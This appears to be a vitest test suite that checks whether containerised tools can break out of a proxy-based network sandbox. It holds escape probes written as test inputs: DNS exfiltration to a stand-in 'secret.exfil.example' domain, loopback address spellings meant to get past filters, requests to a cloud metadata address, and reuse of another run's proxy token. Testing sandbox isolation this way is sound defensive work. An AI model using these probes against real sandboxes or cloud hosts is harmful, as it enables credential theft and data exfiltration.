import { execFile } from 'node:child_process'
import { createSocket, type Socket } from 'node:dgram'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { networkInterfaces } from 'node:os'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { askProxy, askWithToken, dialDirectly, leakByDns } from './probes/network-probes.ts'
import { isHeld, probeByDocker } from './probes/probe.ts'
import { createTestContainers, type TestContainers, testBases } from './testing.ts'
import { createProber, type Prober } from './testing-prober.ts'

const docker = async (...words: string[]) => (await promisify(execFile)('docker', words, { maxBuffer: 2 ** 24 })).stdout.trim()
let containers: TestContainers
let prober: Prober
let listener: Server
let dns: Socket
let gateway: string
const heard: string[] = []
const network = `cortex-test-metadata-${process.pid}`

beforeAll(async () => {
  listener = createServer((_, response) => response.end('the host'))
  await new Promise<void>((resolve) => listener.listen(0, '0.0.0.0', resolve))
  dns = createSocket('udp4', (question, from) => {
    heard.push(question.toString('latin1'))
    dns.send('answered', from.port, from.address)
  })
  await new Promise<void>((resolve) => dns.bind(0, '0.0.0.0', resolve))
  gateway = await docker('network', 'inspect', 'bridge', '--format', '{{(index .IPAM.Config 0).Gateway}}')
  // The engine that was found without a gateway in its plan has the first address.
  if (gateway === '')
    gateway = (await docker('network', 'inspect', 'bridge', '--format', '{{(index .IPAM.Config 0).Subnet}}')).replace(/0\/\d+$/, '1')
  containers = await createTestContainers()
  prober = await createProber(containers)
})
afterAll(async () => {
  listener?.close()
  dns?.close()
  await docker('network', 'rm', network).catch(() => {})
  await containers?.close()
})

/** Every address that this computer has, and those that the first of a network would have. */
const addressesOfHost = () => [
  gateway,
  ...Object.values(networkInterfaces()).flatMap((all) =>
    (all ?? []).filter(({ family, address }) => family === 'IPv4' && address !== '127.0.0.1').map(({ address }) => address),
  ),
]
const ownGateway = `import socket
for line in open("/proc/net/route").read().splitlines()[1:]:
    base = bytes.fromhex(line.split()[1])[::-1]
    args["targets"].append([socket.inet_ntoa(base[:3] + bytes([base[3] | 1])), args["port"]])
`

describe('a tool in a container cannot reach', () => {
  it('listeners of this computer, through the gateway of a bridge or by any address', async () => {
    const { port } = listener.address() as AddressInfo
    const targets = addressesOfHost().map((host) => [host, port])
    const args = { targets, port }
    expect(isHeld(await probeByDocker(prober.image, [], dialDirectly, args))).toBe(false)
    for (const hosts of [[], ['example.com']]) expect(await prober.probe(ownGateway + dialDirectly, args, { network: hosts })).toEqual({ got: [] })
  })

  it('them through the proxy, unless the address is named', async () => {
    const { port } = listener.address() as AddressInfo
    const urls = [`http://${gateway}:${port}/`]
    expect((await prober.probe(askProxy, { urls }, { network: [`${gateway}:${port}`] })).got).toMatchObject({ reached: ['the host'] })
    expect((await prober.probe(askProxy, { urls }, { network: [`*:${port}`] })).got).toMatchObject({ reached: [] })
  })

  it('the loopback of the proxy, by any spelling', async () => {
    const urls = ['127.0.0.1', 'localhost', '2130706433', '0x7f.1', '0', '[::1]', '[::ffff:127.0.0.1]'].map((host) => `http://${host}:3128/`)
    expect((await prober.probe(askProxy, { urls }, { network: ['*:3128'] })).got).toMatchObject({ reached: [] })
    // The control: named, the proxy does ask itself, which answers that it takes whole addresses only.
    const { got } = await prober.probe(askProxy, { urls: ['http://127.0.0.1:3128/'] }, { network: ['127.0.0.1:3128'] })
    expect((got as { refused: Record<string, string> }).refused['http://127.0.0.1:3128/']).toMatch(/407/)
  })

  it('a host past the proxy that it may reach through it', async () => {
    await containers.serve(async ({ host, port, hits }) => {
      const direct = { targets: [[host, port]] }
      expect(await probeByDocker(prober.image, [], dialDirectly, direct)).toEqual({ got: [host] })
      const url = `http://${host}:${port}/`
      expect((await prober.probe(askProxy, { urls: [url] }, { network: [`${host}:${port}`] })).got).toMatchObject({ reached: ['served'] })
      const before = await hits()
      expect(await prober.probe(dialDirectly, direct, { network: [`${host}:${port}`] })).toEqual({ got: [] })
      expect(await hits()).toBe(before)
    })
  })

  it('another host through the proxy, nor another port, nor a redirect that leads there', async () => {
    await containers.serve(async ({ host, port, hits }) => {
      const urls = [`http://${host}:${port}/`, `http://${host}:${port + 1}/`, 'http://evil.example/', `http://${host}:${port}/redirect`]
      const { got } = await prober.probe(askProxy, { urls }, { network: [`${host}:${port}`] })
      const { reached, refused } = got as { reached: string[]; refused: Record<string, string> }
      expect(reached).toEqual(['served'])
      expect(Object.values(refused).map((text) => text.slice(0, 3))).toEqual(['403', '403', '403'])
      expect(await hits()).toBe(2)
    })
  })

  it('anyone by questions for names: not a resolver of its own, not the one of the engine', async () => {
    const { port } = dns.address()
    const ask = (name: string) => ({ name, targets: [...addressesOfHost().map((host) => [host, port]), ['127.0.0.11', 53], ['127.0.0.1', 53]] })
    // The controls: the same datagram arrives from an ordinary container, and so does a question by its resolver.
    await probeByDocker(prober.image, [], leakByDns, ask('control.exfil.example'))
    expect(heard.filter((question) => question.includes('control')).length).toBeGreaterThan(0)
    heard.length = 0
    for (const hosts of [[], ['example.com'], ['*']]) {
      const { got } = await prober.probe(leakByDns, ask('secret.exfil.example'), { network: hosts })
      expect((got as string[]).filter((host) => !host.startsWith('127.'))).toEqual([])
    }
    expect(heard).toEqual([])
  })

  it('a resolver by way of a name that it may not reach', async () => {
    // The proxy looks at the name before it asks anyone for it.
    const begun = performance.now()
    const urls = Array.from({ length: 20 }, (_, index) => `http://part${index}.secret.exfil.example/`)
    const { got } = await prober.probe(askProxy, { urls }, { network: ['example.com'] })
    expect(Object.values((got as { refused: Record<string, string> }).refused).every((text) => text.startsWith('403'))).toBe(true)
    expect(performance.now() - begun).toBeLessThan(20_000)
    // The control: one that it may reach is looked for.
    const allowed = await prober.probe(askProxy, { urls: ['http://nothing.exfil.example/'] }, { network: ['*.exfil.example'] })
    expect(JSON.stringify(allowed.got)).toMatch(/502 nothing.exfil.example cannot be found/)
  })

  it("a cloud's metadata: not directly, not by address, not by a name that leads there", async () => {
    const address = '169.254.169.254'
    await docker('network', 'create', '--internal', '--subnet', '169.254.169.0/24', network)
    const server = await docker(
      'run',
      '-d',
      '--label',
      'dev.cortex.test=probe',
      '--network',
      network,
      '--ip',
      address,
      '--network-alias',
      'metadata.test',
      '--entrypoint',
      'node',
      testBases.node,
      '-e',
      `require('http').createServer((_, r) => r.end('credentials')).listen(80)`,
    )
    try {
      // Any run makes sure that the proxy is there.
      await prober.probe(askProxy, { urls: [] }, { network: ['*'] })
      const [proxy] = await containers.engine.containers.list({ 'dev.cortex.owner': containers.whose.owner, 'dev.cortex.role': 'proxy' })
      await docker('network', 'connect', network, proxy?.id ?? '')
      const urls = [`http://${address}/`, 'http://metadata.test/', `http://[::ffff:${address}]/`, 'http://2852039166/']
      for (const hosts of [['*'], ['metadata.test', '*.test']]) {
        const { got } = await prober.probe(askProxy, { urls }, { network: hosts })
        expect(got, hosts.join()).toMatchObject({
          reached: [],
          refused: { 'http://metadata.test/': expect.stringMatching(/^403 .*link-local/) as string },
        })
      }
      expect(await prober.probe(dialDirectly, { targets: [[address, 80]] }, { network: ['*'] })).toEqual({ got: [] })
      // The controls: a container beside it reaches it directly, and a tool does that names the address.
      expect(await probeByDocker(prober.image, ['--network', network], dialDirectly, { targets: [[address, 80]] })).toEqual({ got: [address] })
      const named = { network: ['metadata.test', address] }
      expect((await prober.probe(askProxy, { urls: urls.slice(0, 2) }, named)).got).toMatchObject({ reached: ['credentials', 'credentials'] })
      await docker('network', 'disconnect', '-f', network, proxy?.id ?? '')
    } finally {
      await docker('rm', '-f', server)
    }
  })

  it("anything under another run's name", async () => {
    await containers.serve(async ({ host, port }) => {
      const url = `http://${host}:${port}/`
      const tell = `import os, time, sys
print(os.environ["HTTP_PROXY"].split("run:")[1].split("@")[0], file=sys.stderr, flush=True)
`
      const own = `args["token"] = os.environ["HTTP_PROXY"].split("run:")[1].split("@")[0]\n`
      let token = ''
      const told = Promise.withResolvers<void>()
      const one = prober.probe(
        `${tell}${own}${askWithToken}\ntime.sleep(4)`,
        { url },
        { network: [`${host}:${port}`] },
        {
          onLog(line) {
            if (/^[0-9a-f]{48}$/.test(line)) token = line
            told.resolve()
          },
        },
      )
      await told.promise
      expect(token).toMatch(/^[0-9a-f]{48}$/)
      expect(await prober.probe(askWithToken, { url, token }, { network: ['elsewhere.example'] })).toMatchObject({
        got: null,
        held: 'Exception: 407',
      })
      expect((await one).got).toBe('served')
      // Afterwards it is good for nothing, not even in its own network.
      expect(await prober.probe(askWithToken, { url, token }, { network: [`${host}:${port}`] })).toMatchObject({ held: 'Exception: 407' })
    })
  })

  it("another run's container", async () => {
    const listen = `import socket, time, sys
server = socket.create_server(("0.0.0.0", 8000))
server.settimeout(12)
print([line for line in open("/etc/hosts").read().splitlines() if line.startswith("10.")][0].split()[0], file=sys.stderr, flush=True)
got = []
try:
    connection, peer = server.accept()
    got.append(peer[0])
except OSError:
    pass`
    const begin = () => {
      const address = Promise.withResolvers<string>()
      const running = prober.probe(listen, {}, { network: ['example.com'] }, { onLog: (line) => address.resolve(line) })
      return { running, address: address.promise }
    }
    const first = begin()
    const address = await first.address
    // The control: a container that is put into its network.
    const own = (await containers.engine.networks.list({ 'dev.cortex.owner': containers.whose.owner })).map(({ name }) => name)
    const attempts = await Promise.all(
      own.map((name) => probeByDocker(prober.image, ['--network', name], dialDirectly, { targets: [[address, 8000]] })),
    )
    expect(attempts.some(({ got }) => (got as string[]).includes(address))).toBe(true)
    expect(((await first.running).got as string[]).length).toBe(1)
    const second = begin()
    const target = await second.address
    expect(await prober.probe(dialDirectly, { targets: [[target, 8000]] }, { network: ['*'] })).toEqual({ got: [] })
    expect((await prober.probe(askProxy, { urls: [`http://${target}:8000/`] }, { network: ['*:8000'] })).got).toMatchObject({ reached: [] })
    expect((await second.running).got).toEqual([])
  })

  it('anything by IPv6', async () => {
    const code = `got = [line for line in open("/proc/net/if_inet6").read().splitlines()] if __import__("os").path.exists("/proc/net/if_inet6") else []`
    expect(isHeld(await probeByDocker(prober.image, ['--sysctl', 'net.ipv6.conf.all.disable_ipv6=0'], code))).toBe(false)
    for (const hosts of [[], ['*']]) expect(await prober.probe(code, {}, { network: hosts })).toEqual({ got: [] })
  })
})
